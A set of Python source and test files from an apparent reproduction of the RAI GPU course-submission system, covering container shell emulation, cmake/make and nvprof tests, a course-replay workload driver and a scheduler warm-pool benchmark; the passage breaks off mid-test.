            enforced_grading_procedure=True,   # see grading_run
            had_gpu=True,
            queue_wait=result.queue_wait or 0.0,
        )

    def grading_run(self, job: BaselineJob) -> SubmissionOutcome:
        """Final submissions ignore the student's build file (Listing 2)."""
        client = self._client(job.owner)
        client.stage_project(dict(_DEFAULT_FILES))
        if job.commands:
            spec = RaiBuildSpec(version="0.1", image="webgpu/rai:root",
                                build_commands=list(job.commands))
            client.set_build_file(render_build_spec(spec))
        result = self.system.run(client.submit(JobKind.SUBMIT))
        # Uniform iff the run used the enforced procedure, not the
        # student's commands: the enforced spec copies /src into
        # /build/submission_code, so its presence is the witness.
        blob = client.download_build(result)
        enforced = False
        if blob is not None:
            from repro.vfs import archive_member_names

            names = archive_member_names(blob)
            enforced = any(n.startswith("submission_code") for n in names)
        return SubmissionOutcome(
            accepted=result.status is not JobStatus.REJECTED,
            ran_requested_commands=False,
            used_requested_image=True,
            escaped_sandbox=False,
            enforced_grading_procedure=enforced,
            had_gpu=True,
        )

    def add_capacity(self, units: int) -> int:
        for _ in range(units):
            self.system.add_worker()
        return units

    def capacity(self) -> int:
        return len(self.system.running_workers)
