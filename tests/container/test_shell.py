"""Unit tests for the guest shell."""

import pytest

from repro.container import ContainerRuntime
from repro.container.shell import expand_variables, split_sequence


@pytest.fixture
def container():
    rt = ContainerRuntime()
    c = rt.create_container("webgpu/rai:root")
    c.start()
    return c


class TestSplitSequence:
    def test_single_command(self):
        assert split_sequence("echo hi") == [("", "echo hi")]

    def test_and_chain(self):
        assert split_sequence("a && b && c") == \
            [("", "a"), ("&&", "b"), ("&&", "c")]

    def test_semicolon(self):
        assert split_sequence("a ; b") == [("", "a"), (";", "b")]

    def test_quoted_separators_ignored(self):
        assert split_sequence('echo "a && b"') == [("", 'echo "a && b"')]
        assert split_sequence("echo 'x;y'") == [("", "echo 'x;y'")]

    def test_empty_segments_dropped(self):
        assert split_sequence("a && ") == [("", "a")]


class TestExpandVariables:
    def test_simple_and_braced(self):
        env = {"HOME": "/root", "X": "1"}
        assert expand_variables("$HOME/file", env) == "/root/file"
        assert expand_variables("${X}y", env) == "1y"

    def test_missing_is_empty(self):
        assert expand_variables("$GHOST", {}) == ""


class TestShellExecution:
    def test_echo(self, container):
        result = container.exec_line('echo "Building project"')
        assert result.exit_code == 0
        assert result.stdout == "Building project\n"

    def test_and_short_circuits(self, container):
        result = container.exec_line("false && echo unreachable")
        assert result.exit_code == 1
        assert "unreachable" not in result.stdout

    def test_semicolon_continues(self, container):
        result = container.exec_line("false ; echo still-here")
        assert "still-here" in result.stdout

    def test_unknown_command_127(self, container):
        result = container.exec_line("frobnicate --now")
        assert result.exit_code == 127
        assert "command not found" in result.stderr

    def test_env_expansion_in_commands(self, container):
        result = container.exec_line("echo $SRC_DIR")
        assert result.stdout == "/src\n"

    def test_assignment_then_use(self, container):
        container.exec_line("FOO=bar")
        assert container.exec_line("echo $FOO").stdout == "bar\n"

    def test_export(self, container):
        container.exec_line("export MYVAR=42")
        assert container.exec_line("echo $MYVAR").stdout == "42\n"

    def test_redirect_to_file(self, container):
        container.exec_line("echo captured > /build/out.txt")
        assert container.fs.read_text("/build/out.txt") == "captured\n"

    def test_redirect_append(self, container):
        container.exec_line("echo one > /build/log")
        container.exec_line("echo two >> /build/log")
        assert container.fs.read_text("/build/log") == "one\ntwo\n"

    def test_redirect_relative_to_cwd(self, container):
        container.exec_line("echo x > rel.txt")
        assert container.fs.isfile("/build/rel.txt")

    def test_cd_builtin(self, container):
        container.exec_line("cd /tmp")
        assert container.exec_line("pwd").stdout == "/tmp\n"

    def test_cd_missing_dir_fails(self, container):
        result = container.exec_line("cd /nonexistent")
        assert result.exit_code == 1

    def test_absolute_path_resolves_by_basename(self, container):
        result = container.exec_line("/bin/echo via-path")
        assert result.stdout == "via-path\n"

    def test_parse_error_reported(self, container):
        result = container.exec_line('echo "unterminated')
        assert result.exit_code == 2

    def test_executable_file_runs_as_program(self, container):
        container.fs.write_file(
            "/build/tool", b'#!rai-exec nvidia-smi\n{}', executable=True)
        result = container.exec_line("./tool")
        # no GPU mounted in this fixture: nvidia-smi reports failure
        assert result.exit_code == 6

    def test_non_rai_binary_refused(self, container):
        container.fs.write_file("/build/blob", b"\x7fELF junk")
        result = container.exec_line("./blob")
        assert result.exit_code == 126
