"""The full-course driver: a five-week project replayed end to end.

``CourseSimulation`` assembles a complete RAI deployment, issues
credentials through the real roster/key-mailer flow, provisions workers on
the course's manual schedule (G2 → 10×P2 multi-job → 20-30×P2 single-job),
and runs one behaviour process per team.  Every submission goes through
the genuine client→broker→worker→container→storage→database path; nothing
is shortcut.

This is the workload generator behind the Figure 2, Figure 4, and §VII
resource-usage reproductions.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

import numpy as np

from repro.auth.email import KeyMailer
from repro.auth.profile import RaiProfile
from repro.cluster.elasticity import ManualSchedule, SchedulePhase
from repro.cluster.metrics import CostReport
from repro.cluster.provisioner import Provisioner
from repro.core.client import RaiClient
from repro.core.job import JobKind, JobStatus
from repro.core.system import RaiSystem
from repro.workload.behavior import DAY, HOUR, sample_think_time
from repro.workload.students import Team, make_class
from repro.workload.trajectory import TeamTrajectory, team_project_files


@dataclass
class CourseConfig:
    """Knobs for a course replay."""

    n_students: int = 176
    n_teams: int = 58
    duration_days: float = 35.0
    seed: int = 408
    #: Per-team base submission rate (submissions/hour before modulation).
    base_rate_per_hour: float = 0.62
    #: Mean declared project size (bytes) — real uploads carried datasets
    #: and checkpoints; 40k submissions × ~2.5 MB gave the paper's 100 GB.
    mean_project_bytes: float = 2.5e6
    #: When teams begin their final submissions (days before deadline).
    final_window_days: float = 2.0
    #: How many times a typical team re-submits its final.
    final_resubmits: int = 2
    #: Use the course's manual provisioning schedule (else caller wires
    #: workers/autoscaling themselves).
    use_manual_schedule: bool = True
    final_week_instances: int = 25
    struggling_fraction: float = 0.35

    @property
    def duration_seconds(self) -> float:
        return self.duration_days * DAY

    @property
    def deadline(self) -> float:
        return self.duration_seconds


@dataclass
class CourseResult:
    """Everything the benchmarks read back out of a replay."""

    config: CourseConfig
    system: RaiSystem
    provisioner: Optional[Provisioner]
    teams: List[Team]
    submission_times: List[float] = field(default_factory=list)
    final_results: Dict[str, object] = field(default_factory=dict)
    team_results: Dict[str, list] = field(default_factory=dict)

    # -- Figure 4 ------------------------------------------------------------

    def submissions_in_window(self, start_day: float,
                              end_day: float) -> List[float]:
        lo, hi = start_day * DAY, end_day * DAY
        return [t for t in self.submission_times if lo <= t < hi]

    def last_two_weeks(self) -> List[float]:
        return self.submissions_in_window(self.config.duration_days - 14,
                                          self.config.duration_days)

    # -- Figure 2 ------------------------------------------------------------

    def top_runtimes(self, n: int = 30) -> List[float]:
        return self.system.ranking.top_runtimes(n)

    # -- §VII aggregates ------------------------------------------------------

    def totals(self) -> dict:
        storage = self.system.storage
        db = self.system.db
        return {
            "students": self.config.n_students,
            "teams": len(self.teams),
            "submissions": len(self.submission_times),
            "uploaded_bytes": int(
                self.system.monitor.counters.get("bytes_uploaded")),
            "file_server_bytes": storage.total_bytes,
            "file_server_objects": storage.total_objects,
            "log_metadata_bytes": db.estimated_size_bytes(),
            "jobs_recorded": len(db.collection("submissions")),
            "rankings": len(self.system.ranking),
            "cost_usd": (self.provisioner.total_cost()
                         if self.provisioner else 0.0),
        }


class CourseSimulation:
    """Drives one replay of the Applied Parallel Programming project."""

    def __init__(self, config: Optional[CourseConfig] = None):
        self.config = config or CourseConfig()
        self.system = RaiSystem(seed=self.config.seed)
        self.rng = self.system.rng
        self.students, self.teams = make_class(
            self.config.n_students, self.config.n_teams,
            rng=self.rng.stream("class"),
            struggling_fraction=self.config.struggling_fraction)
        self.trajectories = {
            team.name: TeamTrajectory.for_team(
                team, self.rng.stream(f"traj:{team.name}"))
            for team in self.teams
        }
        self.provisioner: Optional[Provisioner] = None
        self.result = CourseResult(
            config=self.config, system=self.system,
            provisioner=None, teams=self.teams)

        self._issue_credentials()
        self._clients = self._make_clients()

    # -- setup ------------------------------------------------------------

    def _issue_credentials(self) -> None:
        """The §VI flow: roster → keys → email; teams recorded."""
        roster = [s.roster_entry() for s in self.students]
        team_of = {}
        for team in self.teams:
            for member in team.members:
                team_of[member.user_id] = team.name
        mailer = KeyMailer(self.system.keystore)
        mailer.send_keys(roster, teams=team_of)
        self.outbox = mailer.outbox

    def _make_clients(self) -> Dict[str, RaiClient]:
        """One client per team, logged in as the team's first member."""
        clients = {}
        for team in self.teams:
            lead = team.members[0]
            credential = self.system.keystore._by_user[lead.user_id]
            profile = RaiProfile(username=credential.username,
                                 access_key=credential.access_key,
                                 secret_key=credential.secret_key)
            clients[team.name] = RaiClient(self.system, profile,
                                           team=team.name)
        return clients

    # -- team behaviour ------------------------------------------------------

    def _team_process(self, team: Team):
        config = self.config
        sim = self.system.sim
        rng = self.rng.stream(f"behavior:{team.name}")
        client = self._clients[team.name]
        trajectory = self.trajectories[team.name]
        results = self.result.team_results.setdefault(team.name, [])

        # Staggered start: teams pick the project up over the first days.
        yield sim.timeout(float(rng.uniform(0, 2.5 * DAY)))

        finals_done = 0
        final_window_start = config.deadline - \
            config.final_window_days * DAY
        activity = 0.6 + 0.8 * team.skill  # stronger teams iterate more

        while sim.now < config.deadline:
            think = sample_think_time(
                rng, sim.now, config.deadline,
                base_rate_per_hour=config.base_rate_per_hour,
                team_activity=activity)
            yield sim.timeout(think)
            if sim.now >= config.deadline:
                break

            t_fraction = sim.now / config.duration_seconds
            in_final_window = sim.now >= final_window_start
            wants_final = in_final_window and \
                finals_done <= config.final_resubmits and \
                rng.random() < 0.35
            kind = JobKind.SUBMIT if wants_final else JobKind.RUN

            files = team_project_files(
                trajectory, t_fraction, rng, final=kind is JobKind.SUBMIT)
            client.stage_project(files, clear=True)
            # Projects grow over the course (checkpoints, captured traces).
            client.project_padding_bytes = int(
                config.mean_project_bytes * (0.4 + 1.2 * t_fraction)
                * float(rng.lognormal(0.0, 0.4)))
            result = yield from client.submit(kind)
            results.append(result)
            if kind is JobKind.SUBMIT:
                if result.status is JobStatus.SUCCEEDED:
                    finals_done += 1
                    self.result.final_results[team.name] = result

        # Safety net: every team files a final before grading closes
        # (submissions stay open briefly after the soft deadline).
        while finals_done == 0:
            files = team_project_files(trajectory, 1.0, rng, final=True)
            client.stage_project(files, clear=True)
            result = yield from client.submit(JobKind.SUBMIT)
            results.append(result)
            if result.status is JobStatus.SUCCEEDED:
                finals_done += 1
                self.result.final_results[team.name] = result
            else:
                yield sim.timeout(40.0 + float(rng.uniform(0, 60)))

    # -- run ------------------------------------------------------------

    def run(self, until_days: Optional[float] = None) -> CourseResult:
        sim = self.system.sim
        config = self.config

        if config.use_manual_schedule:
            self.provisioner = Provisioner(self.system)
            self.result.provisioner = self.provisioner
            schedule = ManualSchedule(
                self.provisioner,
                ManualSchedule.course_default(
                    final_week_count=config.final_week_instances))
            sim.process(schedule.run())

        team_procs = [sim.process(self._team_process(team))
                      for team in self.teams]

        horizon = (until_days if until_days is not None
                   else config.duration_days + 1.0) * DAY
        done = sim.all_of(team_procs)

        # Run until every team has finished (or the horizon, whichever is
        # later protection against stragglers).
        sim.run(until=horizon)
        if not done.triggered:
            sim.run(until=done)

        self.result.submission_times = list(
            self.system.monitor.submission_times())
        return self.result

    def cost_report(self) -> Optional[CostReport]:
        if self.provisioner is None:
            return None
        return CostReport.collect(self.provisioner)
