"""Unit tests for cmake/make and the produced ece408 binary."""

import pytest

from repro.container import ContainerRuntime, VolumeMount, cuda_volume
from repro.container.commands.base import parse_source_markers
from repro.gpu import get_device
from repro.vfs import VirtualFileSystem


def make_container(files, gpu=True):
    rt = ContainerRuntime()
    project = VirtualFileSystem()
    project.import_mapping(files, "/")
    mounts = [VolumeMount("/src", read_only=True, source_fs=project)]
    if gpu:
        mounts.append(cuda_volume())
    c = rt.create_container("webgpu/rai:root", mounts=mounts,
                            gpu_device=get_device("K80") if gpu else None)
    c.start()
    return c


GOOD_PROJECT = {
    "main.cu": "// @rai-sim quality=0.9 impl=analytic\nint main(){}\n",
    "CMakeLists.txt": "project(p)\nadd_executable(ece408 main.cu)\n",
}


class TestMarkers:
    def test_defaults(self):
        profile = parse_source_markers({"a.cu": "no markers here"})
        assert profile["quality"] == 0.0
        assert profile["impl"] == "analytic"
        assert profile["compile"] == "ok"

    def test_parsing(self):
        profile = parse_source_markers({
            "a.cu": "// @rai-sim quality=0.75 impl=im2col correctness=0.9 "
                    "runtime=crash mem_gb=3.5"})
        assert profile["quality"] == 0.75
        assert profile["impl"] == "im2col"
        assert profile["correctness"] == 0.9
        assert profile["runtime"] == "crash"
        assert profile["mem_gb"] == 3.5

    def test_quality_clamped(self):
        profile = parse_source_markers({"a.cu": "// @rai-sim quality=7"})
        assert profile["quality"] == 1.0

    def test_unknown_keys_ignored(self):
        profile = parse_source_markers({"a.cu": "// @rai-sim wat=1"})
        assert "wat" not in profile


class TestCMake:
    def test_generates_makefile(self):
        c = make_container(GOOD_PROJECT)
        result = c.exec_line("cmake /src")
        assert result.exit_code == 0
        assert c.fs.isfile("/build/Makefile")
        assert "Configuring done" in result.stdout

    def test_missing_source_dir_fails(self):
        c = make_container(GOOD_PROJECT)
        assert c.exec_line("cmake /nope").exit_code == 1

    def test_target_name_from_cmakelists(self):
        files = dict(GOOD_PROJECT)
        files["CMakeLists.txt"] = "add_executable(mybinary main.cu)\n"
        c = make_container(files)
        c.exec_line("cmake /src")
        c.exec_line("make")
        assert c.fs.isfile("/build/mybinary")

    def test_charges_time(self):
        c = make_container(GOOD_PROJECT)
        assert c.exec_line("cmake /src").sim_duration > 1.0


class TestMake:
    def test_requires_makefile(self):
        c = make_container(GOOD_PROJECT)
        result = c.exec_line("make")
        assert result.exit_code == 2
        assert "no makefile" in result.stderr

    def test_builds_executable(self):
        c = make_container(GOOD_PROJECT)
        c.exec_line("cmake /src")
        result = c.exec_line("make")
        assert result.exit_code == 0
        assert c.fs.stat("/build/ece408")["executable"]
        assert "Built target" in result.stdout

    def test_compile_error_marker_fails_build(self):
        files = {
            "main.cu": "// @rai-sim compile=error\nint main(){}\n",
            "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
        }
        c = make_container(files)
        c.exec_line("cmake /src")
        result = c.exec_line("make")
        assert result.exit_code == 2
        assert "error:" in result.stderr
        assert not c.fs.exists("/build/ece408")

    def test_literal_compile_error_text_also_fails(self):
        files = {
            "main.cu": "int main(){ COMPILE_ERROR }\n",
            "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
        }
        c = make_container(files)
        c.exec_line("cmake /src")
        assert c.exec_line("make").exit_code == 2

    def test_no_sources_fails(self):
        c = make_container({"README": "empty project"})
        c.exec_line("cmake /src")
        assert c.exec_line("make").exit_code == 2

    def test_compile_time_scales_with_files(self):
        many = {f"f{i}.cu": "// code" for i in range(6)}
        many["CMakeLists.txt"] = "add_executable(ece408 f0.cu)\n"
        c1 = make_container(GOOD_PROJECT)
        c1.exec_line("cmake /src")
        t1 = c1.exec_line("make").sim_duration
        c2 = make_container(many)
        c2.exec_line("cmake /src")
        t2 = c2.exec_line("make").sim_duration
        assert t2 > t1


class TestEce408Binary:
    def build(self, files, gpu=True):
        c = make_container(files, gpu=gpu)
        c.exec_line("cmake /src")
        c.exec_line("make")
        return c

    def test_small_dataset_run(self):
        c = self.build(GOOD_PROJECT)
        result = c.exec_line("./ece408 /data/test10.hdf5 /data/model.hdf5")
        assert result.exit_code == 0
        assert "Correctness:" in result.stdout
        assert "Elapsed time:" in result.stdout

    def test_full_dataset_slower_than_small(self):
        c = self.build(GOOD_PROJECT)
        small = c.exec_line("./ece408 /data/test10.hdf5 /data/model.hdf5")
        full = c.exec_line(
            "./ece408 /data/testfull.hdf5 /data/model.hdf5 10000")
        assert full.sim_duration > small.sim_duration

    def test_quality_changes_runtime(self):
        def time_for(q):
            files = {
                "main.cu": f"// @rai-sim quality={q} impl=analytic\n",
                "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
            }
            c = self.build(files)
            return c.exec_line(
                "./ece408 /data/testfull.hdf5 /data/model.hdf5 10000"
            ).sim_duration

        assert time_for(0.1) > time_for(0.9) * 5

    def test_real_numpy_implementations_score_full_accuracy(self):
        for impl in ("reference", "im2col"):
            files = {
                "main.cu": f"// @rai-sim quality=0.5 impl={impl}\n",
                "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
            }
            c = self.build(files)
            result = c.exec_line(
                "./ece408 /data/test10.hdf5 /data/model.hdf5")
            assert "Correctness: 1.0000" in result.stdout

    def test_declared_correctness_reported_on_full_dataset(self):
        files = {
            "main.cu": "// @rai-sim quality=0.5 correctness=0.8123\n",
            "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
        }
        c = self.build(files)
        result = c.exec_line(
            "./ece408 /data/testfull.hdf5 /data/model.hdf5 10000")
        assert "Correctness: 0.8123" in result.stdout

    def test_crash_marker(self):
        files = {
            "main.cu": "// @rai-sim runtime=crash\n",
            "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
        }
        c = self.build(files)
        result = c.exec_line("./ece408 /data/test10.hdf5 /data/model.hdf5")
        assert result.exit_code == 139
        assert "Segmentation fault" in result.stderr

    def test_no_gpu_is_cuda_error(self):
        c = self.build(GOOD_PROJECT, gpu=False)
        result = c.exec_line("./ece408 /data/test10.hdf5 /data/model.hdf5")
        assert result.exit_code == 30
        assert "CUDA error" in result.stderr

    def test_missing_dataset(self):
        c = self.build(GOOD_PROJECT)
        result = c.exec_line("./ece408 /data/ghost.hdf5 /data/model.hdf5")
        assert result.exit_code == 66

    def test_usage_error(self):
        c = self.build(GOOD_PROJECT)
        assert c.exec_line("./ece408").exit_code == 64

    def test_nvidia_smi_via_cuda_volume(self):
        c = make_container(GOOD_PROJECT)
        result = c.exec_line("/usr/local/nvidia/bin/nvidia-smi")
        assert result.exit_code == 0
        assert "K80" in result.stdout
