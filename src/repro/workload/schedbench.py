"""Scheduler + warm-start bench driver: resubmission storm vs the fleet.

The hot-path bench (:mod:`repro.workload.hotpath`) showed p95 submission
latency ~13× p50 — queueing delay plus per-job container startup, not the
build.  This driver measures the two fixes from the warm-start layer
against that exact failure mode:

- a **single-team resubmission storm** (many clients, one team, paced
  only by the rate limiter) floods the queue while ordinary teams keep
  their deadline-week resubmission cadence;
- run once as the **baseline** (FIFO dequeue, no warm pool: every job
  pays the cold container create) and once **warm** (fair-share
  deadline-aware scheduler + per-worker warm pool), same seed and shape.

Reported per mode: first-submission and resubmission latency p50/p95,
per-team mean queue waits (the fairness evidence: under DRR no team's
mean wait may exceed 2× the global mean), warm-pool hit rates overall and
on resubmissions (joined through docdb's ``pool_hit`` field), container
acquire costs, and layer-cache pull traffic.

``benchmarks/bench_sched.py`` runs this at the hotpath scales and writes
``BENCH_sched.json``; the tier-1 perf smoke runs the smoke scale.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Dict, List, Optional

import numpy as np

from repro.core.config import SystemConfig, WorkerConfig
from repro.core.job import JobStatus
from repro.core.system import RaiSystem

#: Build file for teams on the lean image — exercises the shared CUDA
#: base layer: a worker that pulled either course image pays only the
#: other's top layer.
MINIMAL_BUILD_YAML = """\
rai:
  version: '0.1'
  image: webgpu/rai:minimal
commands:
  build:
    - echo "Building project"
    - cmake /src
    - make
    - ./ece408 /data/test10.hdf5 /data/model.hdf5 10
"""


def _project_files(team: str) -> dict:
    return {
        "CMakeLists.txt": "add_executable(ece408 main.cu)\n" * 20,
        "main.cu": ("// @rai-sim quality=0.9 impl=im2col\n"
                    "#define TILE_WIDTH 16\n"
                    + f"// team {team}\n" * 40),
    }


def _tuning_file(team: str, attempt: int) -> str:
    return (f"// team {team} attempt {attempt}\n"
            f"#define BLOCK_DIM {8 + attempt}\n")


@dataclass
class SchedScale:
    """One benchmarked operating point (worker counts match hotpath)."""

    name: str
    n_teams: int                 # ordinary teams, one client each
    n_resubmissions: int         # per ordinary team, beyond the first
    n_workers: int
    slots_per_worker: int = 2
    storm_clients: int = 6       # clients sharing the one storm team
    storm_submissions: int = 4   # accepted submissions per storm client


SMOKE_SCALE = SchedScale("smoke", n_teams=3, n_resubmissions=2,
                         n_workers=2, storm_clients=3, storm_submissions=2)

DEFAULT_SCALES = (
    SchedScale("small", n_teams=4, n_resubmissions=3, n_workers=2,
               storm_clients=10, storm_submissions=3),
    SchedScale("medium", n_teams=8, n_resubmissions=5, n_workers=4,
               storm_clients=20, storm_submissions=4),
    SchedScale("large", n_teams=16, n_resubmissions=8, n_workers=6,
               storm_clients=30, storm_submissions=5),
)

#: The storm team's name in results and docdb.
STORM_TEAM = "team-storm"


def run_sched(scale: SchedScale, seed: int = 408,
              warm: bool = True,
              config: Optional[SystemConfig] = None) -> dict:
    """Replay the storm at ``scale``; returns the metrics dict.

    ``warm=False`` is the baseline: FIFO dequeue and a disabled pool, so
    every job pays the cold container create — the seed's behaviour.
    """
    wall_start = time.perf_counter()
    config = config or SystemConfig()
    config.scheduler_enabled = warm
    # A deadline-week storm: a tight submission window and the course
    # deadline a few hours out, so every job rides the boost band and
    # fairness comes entirely from DRR within it.  The rate limit is
    # loose enough that arrivals outrun the fleet's service rate — the
    # regime the scheduler exists for.
    config.rate_limit_seconds = 0.25
    config.course_deadline_at = 6 * 3600.0
    config.deadline_boost_window_seconds = 24 * 3600.0
    worker_config = WorkerConfig(
        max_concurrent_jobs=scale.slots_per_worker,
        warm_pool_size=2 if warm else 0,
        container_create_seconds=2.5,
        container_reset_seconds=0.25,
    )
    system = RaiSystem.standard(
        num_workers=scale.n_workers, seed=seed, config=config,
        worker_config=worker_config)

    # Ordinary teams' first submissions and resubmissions are the dev
    # loop the scheduler protects; the storm team is reported separately.
    first_results: List = []
    resub_results: List = []
    storm_results: List = []
    #: job_ids of every resubmission (ordinary + storm) for the warm-pool
    #: hit-rate join; team_waits feeds the fairness check over ALL teams.
    resub_job_ids: List[str] = []
    team_waits: Dict[str, List[float]] = {}
    gap = config.rate_limit_seconds + 0.5

    def _note_wait(team: str, result) -> None:
        if result.queue_wait is not None:
            team_waits.setdefault(team, []).append(result.queue_wait)

    def ordinary_team(i: int):
        team = f"team-{i:02d}"
        client = system.new_client(team=team,
                                   username=f"captain{i:02d}")
        files = _project_files(team)
        files["zz_tuning.cfg"] = _tuning_file(team, 0)
        if i % 2 == 1:
            files["rai-build.yml"] = MINIMAL_BUILD_YAML
        client.stage_project(files)
        yield system.sim.timeout(0.7 * i)
        for attempt in range(scale.n_resubmissions + 1):
            if attempt:
                client.stage_project(
                    {"zz_tuning.cfg": _tuning_file(team, attempt)})
                yield system.sim.timeout(gap)
            result = yield from client.submit()
            _note_wait(team, result)
            if attempt:
                resub_results.append(result)
                resub_job_ids.append(result.job_id)
            else:
                first_results.append(result)

    def storm_client(j: int):
        client = system.new_client(team=STORM_TEAM,
                                   username=f"storm{j:02d}")
        files = _project_files(STORM_TEAM)
        files["zz_tuning.cfg"] = _tuning_file(STORM_TEAM, 100 * j)
        client.stage_project(files)
        yield system.sim.timeout(0.1 * j)
        accepted = 0
        while accepted < scale.storm_submissions:
            result = yield from client.submit()
            if result.status is JobStatus.REJECTED:
                # Rate-limited (the whole team shares one window): back
                # off briefly and retry — the storm presses as hard as
                # the limiter allows.
                yield system.sim.timeout(0.3)
                continue
            storm_results.append(result)
            _note_wait(STORM_TEAM, result)
            if accepted or j:
                resub_job_ids.append(result.job_id)
            accepted += 1
            client.stage_project(
                {"zz_tuning.cfg": _tuning_file(STORM_TEAM,
                                               100 * j + accepted)})

    system.run_all(
        [ordinary_team(i) for i in range(scale.n_teams)]
        + [storm_client(j) for j in range(scale.storm_clients)])

    def _latency(results) -> Optional[dict]:
        samples = [r.finished_at - r.queued_at for r in results
                   if r.finished_at is not None and r.queued_at is not None]
        if not samples:
            return None
        return {
            "count": len(samples),
            "p50": round(float(np.percentile(samples, 50)), 3),
            "p95": round(float(np.percentile(samples, 95)), 3),
            "mean": round(float(np.mean(samples)), 3),
        }

    # Per-team queue waits measured client-side (identical bookkeeping in
    # both modes; the scheduler's own wait_stats only exists warm).
    all_waits = [w for waits in team_waits.values() for w in waits]
    global_mean_wait = float(np.mean(all_waits)) if all_waits else 0.0
    per_team_wait = {team: round(float(np.mean(waits)), 3)
                     for team, waits in sorted(team_waits.items())}
    max_team_wait = max(per_team_wait.values()) if per_team_wait else 0.0

    # Warm-pool hit rate on resubmissions: join through docdb's pool_hit.
    submissions = system.db.collection("submissions")
    resub_docs = [submissions.find_one({"job_id": jid})
                  for jid in resub_job_ids]
    resub_docs = [d for d in resub_docs if d is not None]
    resub_hits = sum(1 for d in resub_docs if d.get("pool_hit"))

    pool = {
        "hits": sum(w.pool.hits for w in system.workers),
        "misses": sum(w.pool.misses for w in system.workers),
        "hit_rate": round(system.fleet_pool_hit_rate(), 4),
        "resubmission_hit_rate": round(
            resub_hits / len(resub_docs), 4) if resub_docs else None,
        "evicted_ttl": sum(w.pool.evicted_ttl for w in system.workers),
        "rejected_tainted": sum(w.pool.rejected_tainted
                                for w in system.workers),
    }

    acquire: Dict[str, dict] = {}
    for outcome in ("warm", "cold"):
        hist = system.metrics.histogram("container_acquire_seconds",
                                        outcome=outcome)
        if hist.count:
            acquire[outcome] = {"count": hist.count,
                                "mean": round(hist.sum / hist.count, 3)}

    runtime_stats = [w.runtime.stats() for w in system.workers]
    metrics = {
        "scale": {"name": scale.name, "n_teams": scale.n_teams,
                  "n_resubmissions": scale.n_resubmissions,
                  "n_workers": scale.n_workers,
                  "slots_per_worker": scale.slots_per_worker,
                  "storm_clients": scale.storm_clients,
                  "storm_submissions": scale.storm_submissions},
        "mode": "warm" if warm else "baseline",
        "latency_s": {
            "first": _latency(first_results),
            "resubmissions": _latency(resub_results),
            "storm": _latency(storm_results),
        },
        "fairness": {
            "per_team_mean_wait": per_team_wait,
            "global_mean_wait": round(global_mean_wait, 3),
            "max_team_mean_wait": round(max_team_wait, 3),
            "max_over_global": round(max_team_wait / global_mean_wait, 3)
            if global_mean_wait else None,
        },
        "pool": pool,
        "container_acquire_s": acquire,
        "scheduler": (system.scheduler.wait_stats()
                      if system.scheduler else None),
        "pull": {
            "bytes_pulled": sum(s["bytes_pulled"] for s in runtime_stats),
            "bytes_pull_saved": sum(s["bytes_pull_saved"]
                                    for s in runtime_stats),
        },
        "prefetch_claims": int(
            system.monitor.counters.get("worker_prefetch_claims")),
        "slot_utilization": {
            w.id: round(w.utilization(), 4) for w in system.workers},
        "wall_clock_s": round(time.perf_counter() - wall_start, 3),
    }
    return metrics
