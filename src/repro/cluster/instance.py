"""Cloud instance types (2016-era AWS GPU instances)."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict


@dataclass(frozen=True)
class InstanceType:
    """A rentable machine shape."""

    name: str
    gpu_model: str          # key into repro.gpu.DEVICE_CATALOG
    hourly_cost_usd: float
    boot_seconds: float = 120.0
    #: Worker link to the file server.
    storage_bandwidth_bps: float = 200e6


#: The two shapes the course used (§VII), at 2016 on-demand prices.
INSTANCE_CATALOG: Dict[str, InstanceType] = {
    "g2.2xlarge": InstanceType(name="g2.2xlarge", gpu_model="K40",
                               hourly_cost_usd=0.65, boot_seconds=150.0),
    "p2.xlarge": InstanceType(name="p2.xlarge", gpu_model="K80",
                              hourly_cost_usd=0.90, boot_seconds=120.0),
}


def get_instance_type(name: str) -> InstanceType:
    try:
        return INSTANCE_CATALOG[name]
    except KeyError:
        raise KeyError(f"unknown instance type {name!r}; "
                       f"known: {sorted(INSTANCE_CATALOG)}") from None
