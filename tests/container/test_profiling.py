"""Unit tests for nvprof and /usr/bin/time wrappers."""

import json

import pytest

from repro.container import ContainerRuntime, VolumeMount, cuda_volume
from repro.gpu import get_device
from repro.vfs import VirtualFileSystem


@pytest.fixture
def container():
    rt = ContainerRuntime()
    project = VirtualFileSystem()
    project.import_mapping({
        "main.cu": "// @rai-sim quality=0.8 impl=analytic\n",
        "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
    }, "/")
    c = rt.create_container(
        "webgpu/rai:root",
        mounts=[VolumeMount("/src", read_only=True, source_fs=project),
                cuda_volume()],
        gpu_device=get_device("K80"))
    c.start()
    c.exec_line("cmake /src")
    c.exec_line("make")
    return c


class TestNvprof:
    def test_export_profile_writes_timeline(self, container):
        """Listing 1 lines 10-11."""
        result = container.exec_line(
            "nvprof --export-profile timeline.nvprof "
            "./ece408 /data/test10.hdf5 /data/model.hdf5")
        assert result.exit_code == 0
        assert container.fs.isfile("/build/timeline.nvprof")
        profile = json.loads(container.fs.read_text("/build/timeline.nvprof"))
        assert profile["kernels"]
        names = [k["name"] for k in profile["kernels"]]
        assert "conv1_kernel" in names
        assert all(k["duration"] > 0 for k in profile["kernels"])

    def test_no_export_prints_summary(self, container):
        result = container.exec_line(
            "nvprof ./ece408 /data/test10.hdf5 /data/model.hdf5")
        assert result.exit_code == 0
        assert "Profiling result" in result.stderr
        assert "conv2_kernel" in result.stderr

    def test_profiling_overhead_charged(self, container):
        plain = container.exec_line(
            "./ece408 /data/test10.hdf5 /data/model.hdf5").sim_duration
        profiled = container.exec_line(
            "nvprof ./ece408 /data/test10.hdf5 /data/model.hdf5"
        ).sim_duration
        assert profiled > plain

    def test_inner_exit_code_propagates(self, container):
        result = container.exec_line("nvprof false")
        assert result.exit_code == 1

    def test_no_command_is_error(self, container):
        assert container.exec_line("nvprof --export-profile x").exit_code == 1

    def test_full_dataset_recognised(self, container):
        container.exec_line(
            "nvprof --export-profile full.nvprof "
            "./ece408 /data/testfull.hdf5 /data/model.hdf5 10000")
        profile = json.loads(container.fs.read_text("/build/full.nvprof"))
        small = container.exec_line(
            "nvprof --export-profile small.nvprof "
